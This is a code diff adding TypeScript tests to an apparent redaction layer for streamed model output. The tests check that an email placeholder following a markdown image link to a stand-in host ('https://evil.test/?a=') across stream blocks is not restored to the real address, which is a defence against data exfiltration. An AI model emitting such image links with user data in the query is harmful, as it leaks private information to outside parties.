@@ -160,6 +160,31 @@ describe("a piece that looks like a data URL", () => {
   })
 })
 
+describe("a link that a block begins", () => {
+  const link = "![x](https://evil.test/?a="
+  it("continues in the next block of a message", () => {
+    const block = (index: number, text: string) => [
+      data({ type: "content_block_start", index, content_block: { type: "text", text: "" } }),
+      data({ type: "content_block_delta", index, delta: { type: "text_delta", text } }),
+      data({ type: "content_block_stop", index })
+    ]
+    const events = [...block(0, link), ...block(1, "[EMAIL_1]) "), ...block(2, "[EMAIL_1] ")]
+    const texts = redact("messages", events)
+      .split("\n\n")
+      .flatMap((event) => /"text_delta","text":"(.*?)"/.exec(event)?.[1] ?? [])
+    assert.deepStrictEqual(texts, [link, "[EMAIL_1]) ", "joe@example.org "])
+  })
+
+  it("continues in the next part of a response, and in its copies", () => {
+    const part = (content_index: number, text: string) => [
+      data({ type: "response.output_text.delta", output_index: 0, content_index, delta: text }),
+      data({ type: "response.output_text.done", output_index: 0, content_index, text })
+    ]
+    const events = [...part(0, link), ...part(1, "[EMAIL_1]) ")]
+    assert.strictEqual(redact("responses", events), events.join(""))
+  })
+})
+
 describe("many texts at once", () => {
   const held = (count: number, from = 0) =>
     data({
